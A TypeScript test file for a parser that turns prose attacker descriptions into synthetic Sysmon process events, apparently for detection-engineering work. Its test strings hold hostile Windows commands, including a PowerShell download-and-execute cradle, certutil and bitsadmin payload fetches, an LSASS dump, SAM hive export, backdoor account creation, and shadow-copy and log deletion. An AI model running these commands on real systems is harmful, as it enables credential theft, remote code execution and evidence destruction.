import { describe, expect, it } from "vitest";
import { generate } from "@/lib/engine/generate";
import { validateEvents } from "@/lib/engine/validate";
import { namesFor } from "../atomic/import";
import { procedures } from "../registry";
import { parseActionText } from "./parse";

const names = namesFor({ seed: 1 });

function run(text: string, technique = "T1059.003", withProcedures = false) {
  const parsed = parseActionText(text, { names, technique, procedures: withProcedures ? procedures : [] });
  const { events, report } = generate(
    { seed: 1, noise: { level: "none" }, steps: [{ technique, plan: parsed.actions }] },
    { procedures },
  );
  const field = (e: (typeof events)[number], n: string) =>
    String(e.data[e.template.fields.findIndex((f) => f.name === n)]);
  const base = (p: string) => p.replace(/^.*\\/, "").toLowerCase();
  const procs = events
    .filter((e) => e.template.channel === "Microsoft-Windows-Sysmon/Operational" && e.template.eventId === 1)
    .map((e) => ({
      image: base(field(e, "Image")),
      parent: base(field(e, "ParentImage")),
      cmd: field(e, "CommandLine"),
    }));
  const edges = procs.map((p) => `${p.parent}>${p.image}`);
  return { parsed, procs, edges, events, violations: validateEvents(events), report };
}

/** [description, extracted [kind, value] pairs that must be present, process edges parent>child that must exist] */
const CASES: [string, [string, string][], string[]][] = [
  [
    'The actor ran forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c calc.exe", then whoami and net group "domain admins" /domain.',
    [
      ["command", 'net group "domain admins" /domain'],
      ["path", "c:\\windows\\system32"],
    ],
    [
      "cmd.exe>forfiles.exe",
      "forfiles.exe>cmd.exe",
      "cmd.exe>calc.exe",
      "cmd.exe>whoami.exe",
      "cmd.exe>net.exe",
    ],
  ],
  [
    "They executed `whoami /all` and `ipconfig /all` to learn about the host.",
    [
      ["command", "whoami /all"],
      ["command", "ipconfig /all"],
    ],
    ["cmd.exe>whoami.exe", "cmd.exe>ipconfig.exe"],
  ],
  [
    'Persistence came from reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater /t REG_SZ /d "C:\\Users\\Public\\upd.exe" /f.',
    [
      ["registry", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"],
      ["path", "C:\\Users\\Public\\upd.exe"],
    ],
    ["cmd.exe>reg.exe"],
  ],
  [
    'A task was registered with schtasks /create /tn "OneDrive Sync" /tr "C:\\ProgramData\\sync.exe" /sc onlogon /f and started with schtasks /run /tn "OneDrive Sync".',
    [["path", "C:\\ProgramData\\sync.exe"]],
    ["cmd.exe>schtasks.exe"],
  ],
  [
    "The operator used certutil -urlcache -split -f http://files.example-cdn.com/a.txt C:\\Users\\Public\\a.exe to fetch the tool.",
    [
      ["url", "http://files.example-cdn.com/a.txt"],
      ["path", "C:\\Users\\Public\\a.exe"],
    ],
    ["cmd.exe>certutil.exe"],
  ],
  [
    "LSASS was dumped using rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.dmp full from an elevated prompt.",
    [["path", "C:\\Windows\\Temp\\d.dmp"]],
    ["cmd.exe>rundll32.exe"],
  ],
  [
    "An encoded stage ran: powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7:8080/a.ps1')\".",
    [
      ["ip", "203.0.113.7"],
      ["port", "8080"],
    ],
    ["cmd.exe>powershell.exe"],
  ],
  [
    "They created a local account with net user backdoor P@ssw0rd1 /add and then net localgroup administrators backdoor /add.",
    [["user", "backdoor"]],
    ["cmd.exe>net.exe"],
  ],
  [
    "Shadow copies were removed: vssadmin delete shadows /all /quiet, then wevtutil cl Security.",
    [
      ["command", "vssadmin delete shadows /all /quiet"],
      ["command", "wevtutil cl Security"],
    ],
    ["cmd.exe>vssadmin.exe", "cmd.exe>wevtutil.exe"],
  ],
  [
    "mshta http://update.contoso-cloud.net/p.hta was launched and the HTA spawned powershell.",
    [["url", "http://update.contoso-cloud.net/p.hta"]],
    ["cmd.exe>mshta.exe"],
  ],
  [
    "regsvr32 /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll executed the scriptlet.",
    [["ip", "198.51.100.23"]],
    ["cmd.exe>regsvr32.exe"],
  ],
  [
    'The attacker ran wmic process call create "cmd.exe /c whoami > C:\\Users\\Public\\o.txt" on the workstation.',
    [["path", "C:\\Users\\Public\\o.txt"]],
    ["cmd.exe>wmic.exe", "wmiprvse.exe>cmd.exe", "cmd.exe>whoami.exe"],
  ],
  [
    'A service was installed: sc create EvilSvc binPath= "C:\\Program Files\\Common Files\\svc host.exe" start= auto.',
    [["command", 'sc create EvilSvc binPath= "C:\\Program Files\\Common Files\\svc host.exe" start= auto']],
    ["cmd.exe>sc.exe"],
  ],
  [
    "bitsadmin /transfer job /download /priority high https://cdn.files-share.org/x.exe C:\\Users\\Public\\x.exe pulled the payload.",
    [["url", "https://cdn.files-share.org/x.exe"]],
    ["cmd.exe>bitsadmin.exe"],
  ],
  [
    "Recon: `nltest /dclist:corp.local`, `net view /all` and `systeminfo`.",
    [
      ["command", "nltest /dclist:corp.local"],
      ["command", "systeminfo"],
    ],
    ["cmd.exe>nltest.exe", "cmd.exe>net.exe", "cmd.exe>systeminfo.exe"],
  ],
  [
    "They ran `Invoke-WebRequest -Uri https://paste.example.io/raw/abc -OutFile $env:TEMP\\r.ps1` in PowerShell.",
    [["url", "https://paste.example.io/raw/abc"]],
    ["explorer.exe>powershell.exe"],
  ],
  [
    "`Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Edge -Value C:\\Users\\Public\\e.exe` added persistence.",
    [["registry", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"]],
    ["explorer.exe>powershell.exe"],
  ],
  [
    'Using cmd /c "echo whoami > C:\\Users\\Public\\a.bat && C:\\Users\\Public\\a.bat" the actor staged and ran a batch file.',
    [["path", "C:\\Users\\Public\\a.bat"]],
    ["cmd.exe>cmd.exe"],
  ],
  [
    "A pipe chain: tasklist /v | findstr /i lsass, then taskkill /f /im MsMpEng.exe.",
    [["command", "taskkill /f /im MsMpEng.exe"]],
    ["cmd.exe>tasklist.exe", "cmd.exe>findstr.exe", "cmd.exe>taskkill.exe"],
  ],
  [
    'The actor copied tools with copy C:\\Users\\Public\\p.exe "C:\\Program Files\\Windows Mail\\p.exe" and executed them.',
    [["path", "C:\\Users\\Public\\p.exe"]],
    [],
  ],
  [
    "They started a beacon via start /b C:\\ProgramData\\svc.exe and connected to 192.0.2.44 on port 443.",
    [
      ["ip", "192.0.2.44"],
      ["port", "443"],
    ],
    ["cmd.exe>svc.exe"],
  ],
  [
    'Obfuscated: c^m^d /c "set x=who&& call %x%ami" ran, then nslookup evil-c2.example.com.',
    [["domain", "evil-c2.example.com"]],
    ["cmd.exe>nslookup.exe"],
  ],
  [
    "The implant C:\\Users\\Public\\svchost.exe (MD5 44d88612fea8a8f36de82e1278abb02f) talked to updates.msft-sync.com.",
    [
      ["hash", "44d88612fea8a8f36de82e1278abb02f"],
      ["domain", "updates.msft-sync.com"],
    ],
    ["cmd.exe>svchost.exe"],
  ],
  [
    'They ran "C:\\Program Files\\7-Zip\\7z.exe" a -pinfected C:\\Users\\Public\\out.7z C:\\Users\\Public\\docs to stage data.',
    [
      [
        "command",
        '"C:\\Program Files\\7-Zip\\7z.exe" a -pinfected C:\\Users\\Public\\out.7z C:\\Users\\Public\\docs',
      ],
    ],
    ["cmd.exe>7z.exe"],
  ],
  [
    "Lateral prep: net use \\\\10.0.0.20\\C$ /user:CORP\\svc_backup Passw0rd!, then copy beacon.exe \\\\10.0.0.20\\C$\\Windows\\Temp.",
    [
      ["ip", "10.0.0.20"],
      ["user", "CORP\\svc_backup"],
    ],
    ["cmd.exe>net.exe"],
  ],
  [
    "The attacker dropped a DLL in %APPDATA% and added a Run key for it.",
    [
      ["path", "%APPDATA%"],
      ["registry", "Run key"],
    ],
    ["cmd.exe>cmd.exe", "cmd.exe>reg.exe"],
  ],
  [
    "The operator created a scheduled task and later cleared the security event log.",
    [],
    ["cmd.exe>schtasks.exe", "cmd.exe>wevtutil.exe"],
  ],
  [
    'Discovery with powershell -Command "Get-Process; Get-Service" followed by quser.',
    [["command", 'powershell -Command "Get-Process; Get-Service"']],
    ["cmd.exe>powershell.exe"],
  ],
  [
    'cmd.exe /c "ping -n 1 10.1.2.3 || echo down" was run from an admin prompt.',
    [["ip", "10.1.2.3"]],
    ["cmd.exe>cmd.exe", "cmd.exe>ping.exe"],
  ],
  [
    "Data was staged with robocopy C:\\Users\\Public\\docs D:\\stage /E and then reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save.",
    [
      ["registry", "HKLM\\SAM"],
      ["path", "C:\\Windows\\Temp\\sam.save"],
    ],
    ["cmd.exe>robocopy.exe", "cmd.exe>reg.exe"],
  ],
  [
    'They ran `Start-Process -FilePath "C:\\Windows\\System32\\cmd.exe" -ArgumentList "/c whoami /priv"` and `Remove-Item C:\\Users\\Public\\stage.zip`.',
    [["command", 'Start-Process -FilePath "C:\\Windows\\System32\\cmd.exe" -ArgumentList "/c whoami /priv"']],
    ["powershell.exe>cmd.exe", "cmd.exe>whoami.exe"],
  ],
];

describe("parseActionText", () => {
  it.each(CASES.map((c, i) => [i + 1, ...c] as const))("description %i", (_n, text, items, edges) => {
    const r = run(text);
    for (const [kind, value] of items) {
      const hit = r.parsed.extracted.find((e) => e.kind === kind && e.value === value);
      expect(
        hit,
        `${kind} ${value} in ${JSON.stringify(r.parsed.extracted.map((e) => [e.kind, e.value]))}`,
      ).toBeDefined();
      // The span points at the text the item came from.
      expect(text.slice(hit!.span[0], hit!.span[1]).toLowerCase()).toContain(value.toLowerCase().slice(0, 6));
    }
    for (const edge of edges) expect(r.edges, `${edge} in ${r.edges.join(", ")}`).toContain(edge);
    expect(r.parsed.actions.length).toBeGreaterThan(0);
    expect(r.violations.map((v) => `${v.check}: ${v.message}`)).toEqual([]);
    expect(r.report.steps[0].pruned).toEqual([]);
  });

  it("has at least 30 descriptions", () => expect(CASES.length).toBeGreaterThanOrEqual(30));

  const RESEARCH =
    "The attackers executed forfiles and obfuscated their actions using variable expansion of %PROGRAMFILES and hex characters (for example, 0x5d). They obfuscated the use of echo, open, read, find, and exec to extract file contents, then passed the output to a Python interpreter for execution.";

  it.each([false, true])("research example T1202 (procedures merged: %s)", (withProcedures) => {
    const r = run(RESEARCH, "T1202", withProcedures);
    const forfiles = r.procs.filter((p) => p.image === "forfiles.exe");
    expect(forfiles.some((p) => /%PROGRAMFILES/.test(p.cmd) && /0x5d/i.test(p.cmd))).toBe(true);
    expect(r.procs.some((p) => p.image === "python.exe" && p.parent === "cmd.exe")).toBe(true);
    expect(r.parsed.extracted.map((e) => [e.kind, e.value])).toContainEqual(["binary", "forfiles"]);
    expect(r.violations).toEqual([]);
  });

  it("merges the parsed commands with the technique's procedure", () => {
    const text =
      'The operator ran forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c whoami", then whoami and net group "domain admins" /domain, dropped a DLL in %APPDATA% and added a Run key.';
    const r = run(text, "T1547.001", true);
    expect(r.parsed.procedure).not.toBeNull();
    const ids = r.parsed.actions.map((a) => a.id);
    expect(ids.some((id) => !id.startsWith("t-"))).toBe(true);
    expect(r.edges).toEqual(
      expect.arrayContaining([
        "cmd.exe>forfiles.exe",
        "forfiles.exe>cmd.exe",
        "cmd.exe>net.exe",
        "cmd.exe>reg.exe",
      ]),
    );
    expect(r.violations).toEqual([]);
    expect(r.report.steps[0].pruned).toEqual([]);
  });

  it("is deterministic", () => {
    const a = parseActionText(CASES[0][0], { names, technique: "T1059.003", procedures });
    const b = parseActionText(CASES[0][0], { names, technique: "T1059.003", procedures });
    expect(a).toEqual(b);
  });
});
